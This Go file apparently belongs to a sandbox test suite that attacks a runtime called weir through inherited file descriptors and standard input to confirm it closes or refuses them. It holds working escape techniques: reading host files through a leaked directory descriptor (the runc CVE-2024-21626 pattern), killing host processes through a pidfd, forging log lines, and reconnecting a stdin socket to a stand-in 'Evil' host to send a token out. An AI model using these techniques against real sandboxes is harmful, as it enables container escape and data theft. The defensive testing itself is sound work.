//go:build linux

package gauntlet

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// descriptorRows are descriptors that whoever started the sandbox had open.
func descriptorRows() []Row {
	return []Row{
		{
			ID: "processes/inherited-socket", Vector: "talk by a connected socket that the caller left open", Right: "only 0, 1 and 2 are open",
			Source: "security.md 2.5; sandbox-runtime README",
			Prepare: func(s *Stage) error {
				f, err := hostSocket(s)
				s.leaveOpen(f)
				return err
			},
			Attack: func(a *Attacker) error {
				return anyDescriptor(func(fd int) error {
					_, err := unix.Write(fd, []byte(a.Token))
					return err
				})
			},
			Harm: Heard,
		},
		{
			ID: "processes/inherited-directory", Vector: "walk through the host's files from a directory that the caller left open", Right: "only 0, 1 and 2 are open",
			Source: "CVE-2024-21626 (runc)",
			Prepare: func(s *Stage) error {
				if err := prepareSecret(s); err != nil {
					return err
				}
				dir, err := os.Open(filepath.Join(s.Dir))
				if err == nil {
					s.leaveOpen(dir)
					s.Defer(func() { dir.Close() })
				}
				return err
			},
			Attack: func(a *Attacker) error {
				return anyDescriptor(func(fd int) error { return a.readAt(fd, "secret") })
			},
		},
		{
			ID: "processes/inherited-pidfd", Vector: "kill a process of the host by a descriptor of it that the caller left open", Right: "only 0, 1 and 2 are open",
			Prepare: func(s *Stage) error {
				if err := withVictim(s); err != nil {
					return err
				}
				var pid int
				fmt.Sscan(s.Args["pid"], &pid)
				fd, err := unix.PidfdOpen(pid, 0)
				if err == nil {
					f := os.NewFile(uintptr(fd), "pidfd")
					s.leaveOpen(f)
					s.Defer(func() { f.Close() })
				}
				return err
			},
			Attack: func(*Attacker) error {
				return anyDescriptor(func(fd int) error { return unix.PidfdSendSignal(fd, unix.SIGKILL, nil, 0) })
			},
			Harm: victimDied,
		},
		{
			ID: "processes/inherited-log", Vector: "write a false line into the event log, whose descriptor was given to weir", Right: "only 0, 1 and 2 are open",
			Prepare: func(s *Stage) error {
				log, err := os.Create(filepath.Join(s.Dir, "log"))
				if err == nil {
					s.leaveOpen(log)
					s.Flags = []string{"--events", "fd:3"}
					s.Defer(func() { log.Close() })
				}
				return err
			},
			Attack: func(a *Attacker) error {
				return anyDescriptor(func(fd int) error {
					_, err := unix.Write(fd, []byte(a.Token+"\n"))
					return err
				})
			},
			// The token is in the arguments too, which weir records: a line that begins with it is the attacker's.
			Harm: func(s *Stage) bool { return hasLine(s, filepath.Join(s.Dir, "log")) },
		},
	}
}

// leaveOpen has the sandbox's own process inherit the file, several times over: the first numbers it may use for itself.
func (s *Stage) leaveOpen(f *os.File) {
	s.Files = []*os.File{f, f, f, f, f, f}
}

// hostSocket is a connection of the host to its own loopback.
func hostSocket(s *Stage) (*os.File, error) {
	c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", HostLoopbackPort))
	if err != nil {
		return nil, err
	}
	defer c.Close()
	f, err := c.(*net.TCPConn).File()
	if err == nil {
		s.Defer(func() { f.Close() })
	}
	return f, err
}

// anyDescriptor tries the descriptors above 2 until one is good for the attack.
func anyDescriptor(try func(fd int) error) error {
	const many = 64
	errs := []error{errors.New("no descriptor is good for that")}
	for fd := 3; fd < many; fd++ {
		if _, err := unix.FcntlInt(uintptr(fd), unix.F_GETFD, 0); err != nil {
			continue
		}
		err := try(fd)
		if err == nil {
			return nil
		}
		errs = append(errs, fmt.Errorf("descriptor %d: %w", fd, err))
	}
	return errors.Join(errs...)
}

// streamRows are what the caller gave as standard input.
func streamRows() []Row {
	return []Row{
		{
			ID: "processes/stdin-directory", Vector: "walk through the host's files from standard input, which is a directory", Right: "weir refuses to start",
			Source:  "CVE-2024-21626 (runc)",
			Refused: "is a directory",
			Prepare: func(s *Stage) (err error) {
				if err = prepareSecret(s); err == nil {
					s.Stdin, err = os.Open(s.Dir)
					s.Defer(func() { s.Stdin.Close() })
				}
				return err
			},
			Attack: func(a *Attacker) error { return a.readAt(0, "secret") },
		},
		{
			ID: "processes/stdin-socket", Vector: "connect standard input, a TCP socket, to somewhere else: it belongs to the host's network", Right: "weir refuses to start",
			Source:  "security.md 2.5 (stdio being a socket)",
			Refused: "is a socket of the host's network",
			Prepare: func(s *Stage) (err error) {
				s.Stdin, err = hostSocket(s)
				return err
			},
			Attack: func(a *Attacker) error {
				unspecified := [16]byte{} // a sockaddr of AF_UNSPEC dissolves a connection: connect(2)
				if err := errnoOf(unix.SYS_CONNECT, 0, pointer(&unspecified[0]), 16); err != nil {
					return err
				}
				if err := unix.Connect(0, &unix.SockaddrInet4{Addr: Evil.As4(), Port: 80}); err != nil {
					return err
				}
				_, err := unix.Write(0, []byte(a.Token))
				return err
			},
			Harm: Heard,
		},
		{
			ID: "processes/stdin-datagrams", Vector: "send from standard input, a UNIX datagram socket, to an abstract name of the host", Right: "weir refuses to start",
			Source:  "security.md 2.5 (stdio being a socket)",
			Refused: "is a socket of the host's network",
			Prepare: func(s *Stage) error {
				if err := listenAbstract(s, "unixgram"); err != nil {
					return err
				}
				pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				s.Stdin = os.NewFile(uintptr(pair[0]), "stdin")
				s.Defer(func() {
					s.Stdin.Close()
					unix.Close(pair[1])
				})
				return nil
			},
			Attack: func(a *Attacker) error {
				return unix.Sendto(0, []byte(a.Token), 0, &unix.SockaddrUnix{Name: "@" + a.Args["name"]})
			},
			Harm: Heard,
		},
		{
			ID: "processes/stdin-reopened", Vector: "open standard input, a file to be read, again for writing", Right: "a descriptor is no more than it is",
			Lacks: lacksLandlock,
			Prepare: func(s *Stage) error {
				path := filepath.Join(s.Dir, "input")
				err := os.WriteFile(path, []byte("input\n"), 0o644)
				if err == nil {
					s.Stdin, err = os.Open(path)
					s.Defer(func() { s.Stdin.Close() })
				}
				return err
			},
			Attack: func(a *Attacker) error { return a.overwrite("/proc/self/fd/0", os.O_TRUNC) },
			Harm:   func(s *Stage) bool { return hasToken(s, filepath.Join(s.Dir, "input")) },
		},
	}
}

// lacksLandlock is for the walls that only Landlock is.
func lacksLandlock() string {
	const scopes = 6
	abi, _, errno := unix.Syscall(unix.SYS_LANDLOCK_CREATE_RULESET, 0, 0, unix.LANDLOCK_CREATE_RULESET_VERSION)
	if errno != 0 || abi < scopes {
		return "Landlock with scopes (Linux 6.12)"
	}
	return ""
}
